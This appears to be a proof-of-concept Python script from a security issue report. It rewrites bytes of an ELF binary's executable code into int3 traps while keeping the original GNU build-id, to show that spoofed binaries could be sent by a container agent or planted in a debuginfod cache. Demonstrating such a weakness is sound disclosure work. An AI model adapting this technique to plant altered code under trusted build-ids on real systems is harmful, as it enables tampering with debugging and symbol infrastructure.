#!/usr/bin/env python3
"""plant_code.py IN OUT ADDR [N]: OUT is IN, an ELF file, with N (16) bytes of
code from virtual address ADDR made int3 (0xcc) and everything else kept, its
GNU build-id note included: another binary's code under IN's build-id, as a
process in any container can have its agent send (issue 32 item 7) or plant
in a debuginfod cache (item 8)."""
import struct
import sys

src, dst, addr = sys.argv[1], sys.argv[2], int(sys.argv[3], 0)
n = int(sys.argv[4]) if len(sys.argv) > 4 else 16
elf = bytearray(open(src, "rb").read())
assert elf[:4] == b"\x7fELF" and elf[4] == 2, "a 64-bit ELF file"
phoff, = struct.unpack_from("<Q", elf, 0x20)
phentsize, phnum = struct.unpack_from("<HH", elf, 0x36)
for i in range(phnum):
    p_type, p_flags, p_offset, p_vaddr, _, p_filesz = struct.unpack_from(
        "<IIQQQQ", elf, phoff + i * phentsize)
    if p_type == 1 and p_flags & 1 and p_vaddr <= addr and addr + n <= p_vaddr + p_filesz:
        at = p_offset + addr - p_vaddr
        elf[at:at + n] = b"\xcc" * n
        open(dst, "wb").write(elf)
        sys.exit(0)
sys.exit(f"no executable segment of {src} holds {n} bytes at {addr:#x}")
